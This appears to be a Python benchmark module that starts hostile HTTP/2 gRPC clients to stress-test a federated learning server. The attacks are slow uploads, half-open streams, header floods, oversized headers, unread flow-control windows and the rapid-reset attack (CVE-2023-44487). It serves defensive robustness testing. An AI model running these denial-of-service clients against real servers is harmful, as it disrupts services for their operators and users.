"""Hostile clients in one process, each with connections of its own.

    python -m benchmarks.attackers ADDRESS NUM_CLIENTS [ATTACK]

On the command `begin` they begin, on `end` they stop and say what they did. They never join a run, which is a matter of
who is let in, and do all else that costs a server something: see `ATTACKS`. One that is hung up on comes back after
`RETURN_S`.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys
import threading
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from contextlib import suppress

from fedmtl.v1 import federation_pb2 as pb

from benchmarks.frames import (
    DATA,
    RST_STREAM,
    Connection,
    frame,
    header_block,
    header_frames,
    message_prefix,
)
from benchmarks.processes import serve_commands
from benchmarks.swarm import raise_file_limit

RETURN_S = 1.0
"""As long as gRPC's own clients wait."""
TICK_S = 0.1

_SERVICE = "/" + pb.DESCRIPTOR.services_by_name["FederatedMtlService"].full_name + "/"
_SLICE = pb.GetSliceRequest(task="sst2").SerializeToString()
_MANY = 16
"""Calls at once of one client, where it isn't as many as there is room for."""
_MESSAGE_BYTES = 2_000_000


class Attackers:
    """All of them.

    Args:
        address: the server's.
        count: how many.
        only: those whose attack's name contains this.
    """

    def __init__(self, address: str, count: int, only: str = ""):
        self._address = address
        self._count = count
        self._attacks = [(name, attack) for name, attack in ATTACKS.items() if only in name]
        self._done: Counter[str] = Counter()
        self._loop = asyncio.new_event_loop()
        self._tasks: list[asyncio.Task[None]] = []
        threading.Thread(target=self._loop.run_forever, daemon=True).start()

    def begin(self) -> None:
        """Have them come."""
        asyncio.run_coroutine_threadsafe(self._begin(), self._loop).result()

    def end(self) -> dict[str, object]:
        """Have them go; how often they did what, and what came of it."""
        asyncio.run_coroutine_threadsafe(self._end(), self._loop).result()
        done, self._done = dict(self._done), Counter()
        return {"done": done}

    async def _begin(self) -> None:
        for number in range(self._count):
            name, attack = self._attacks[number % len(self._attacks)]
            self._tasks.append(asyncio.create_task(self._client(name, attack)))

    async def _end(self) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        self._tasks.clear()

    async def _client(self, name: str, attack: Attack) -> None:
        def note(what: str) -> None:
            self._done[f"{name}: {what}"] += 1

        while True:
            with suppress(ConnectionError):
                await attack(self._address, note)
                self._done[f"{name}: hung up on"] += 1
            await asyncio.sleep(RETURN_S)


Note = Callable[[str], None]
Attack = Callable[[str, Note], Awaitable[None]]


async def _trickle(address: str, note: Note) -> None:
    """Uploads whose header is announced as 2 MB, comes nearly whole, and then a byte at a time."""
    async with Connection(address) as connection:
        streams: dict[int, asyncio.Task[None]] = {}
        while not connection.closed.is_set():
            for stream in [stream for stream in streams if stream in connection.ended]:
                streams.pop(stream).cancel()
                note("calls ended")
            if len(streams) < _MANY:
                stream = connection.open(_SERVICE + "PushUpdate")
                connection.write(frame(DATA, 0, stream, message_prefix(_MESSAGE_BYTES)))
                streams[stream] = asyncio.create_task(_send_slowly(connection, stream))
                note("calls")
            await asyncio.sleep(TICK_S / 4)


async def _send_slowly(connection: Connection, stream: int) -> None:
    await connection.send(stream, bytes(_MESSAGE_BYTES - 10_000))
    while stream not in connection.ended and not connection.closed.is_set():
        connection.write(frame(DATA, 0, stream, b"\0"))
        await asyncio.sleep(TICK_S)


async def _half_open(address: str, note: Note) -> None:
    """Calls of which there are only headers, as many as there is room for."""
    async with Connection(address) as connection:
        rpcs = ("GetSlice", "PushUpdate", "WatchRounds", "GetStatus", "QueryUpload")
        began = 0
        while not connection.closed.is_set():
            while began - len(connection.ended) < (connection.max_streams or _MANY):
                connection.open(_SERVICE + rpcs[began % len(rpcs)])
                began += 1
                note("calls")
            await connection.drain()
            await asyncio.sleep(TICK_S)


async def _flood(address: str, note: Note) -> None:
    """Headers of 6 kB, as fast as the system takes them."""
    block = header_block(_SERVICE + "GetStatus", {"x": "y" * 6000})
    async with Connection(address) as connection:
        began = 0
        while not connection.closed.is_set():
            if began - len(connection.ended) >= (connection.max_streams or _MANY):
                await asyncio.sleep(0)
                continue
            connection.write(header_frames(connection.new_stream(), block, end_stream=True))
            began += 1
            note("calls")
            await connection.drain()


async def _reset(address: str, note: Note) -> None:
    """Calls that are taken back at once (CVE-2023-44487), up to 10,000 a second."""
    block = header_block(_SERVICE + "GetStatus")
    async with Connection(address) as connection:
        while not connection.closed.is_set():
            batch = []
            for _ in range(20):
                stream = connection.new_stream()
                batch.append(header_frames(stream, block) + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
                note("calls")
            connection.write(b"".join(batch))
            await connection.drain()
            await asyncio.sleep(0.002)


async def _oversized(address: str, note: Note) -> None:
    """Headers of 100 kB."""
    block = header_block(_SERVICE + "GetStatus", {"x": "y" * 100_000})
    async with Connection(address) as connection:
        while not connection.closed.is_set():
            connection.write(header_frames(connection.new_stream(), block, end_stream=True))
            note("calls")
            await connection.drain()
            await asyncio.sleep(TICK_S / 10)


async def _unread(address: str, note: Note) -> None:
    """Downloads and event streams whose windows are never opened."""
    async with Connection(address, window=1000) as connection:
        began = 0
        while not connection.closed.is_set():
            while began - len(connection.ended) < _MANY:
                rpc, request = (("GetSlice", _SLICE), ("WatchRounds", b""))[began % 2]
                connection.call(_SERVICE + rpc, request)
                began += 1
                note("calls")
            await asyncio.sleep(TICK_S)


async def _deaf(address: str, note: Note) -> None:
    """Downloads whose windows are wide open, over a connection that isn't read."""
    async with Connection(address, window=2**31 - 1, deaf=True) as connection:
        for _ in range(_MANY):
            connection.call(_SERVICE + "GetSlice", _SLICE)
            note("calls")
        while not connection.closed.is_set():  # which a deaf one sees when it speaks
            connection.write(frame(DATA, 0, 1, b""))
            try:
                await connection.drain()
            except ConnectionError:
                return
            if connection.is_lost:
                return
            await asyncio.sleep(TICK_S)


async def _paced(address: str, note: Note) -> None:
    """Calls that a server answers, at the pace that it allows: nothing to refuse."""
    async with Connection(address) as connection:
        while not connection.closed.is_set():
            connection.call(_SERVICE + "GetStatus", b"")
            note("calls")
            await asyncio.sleep(1 / 19)


ATTACKS: dict[str, Callable[[str, Note], Coroutine[object, None, None]]] = {
    "trickled uploads": _trickle,
    "half-open calls": _half_open,
    "unread downloads and events": _unread,
    "header flood": _flood,
    "deaf downloads": _deaf,
    "rapid reset": _reset,
    "oversized headers": _oversized,
    "polling": _paced,
}
"""What hostile clients do, in turns."""


def main(address: str, count: str, only: str = "") -> None:
    os.nice(19)  # they have machines of their own; what they cost this one is the server's time
    raise_file_limit()
    attackers = Attackers(address, int(count), only)
    print(json.dumps("ready"), flush=True)
    serve_commands({"begin": attackers.begin, "end": attackers.end})


if __name__ == "__main__":
    main(*sys.argv[1:])
